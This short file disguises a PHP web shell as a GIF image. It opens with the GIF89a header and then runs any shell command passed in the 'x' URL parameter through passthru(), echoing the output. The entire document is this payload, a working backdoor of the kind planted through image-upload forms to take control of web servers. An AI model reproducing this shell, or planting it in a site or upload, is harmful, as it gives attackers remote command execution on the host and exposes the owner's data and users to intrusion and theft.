GIF89a;
<?php
if(isset($_GET['x'])){ echo '<pre>'; passthru($_GET['x']); echo '</pre>'; }
?>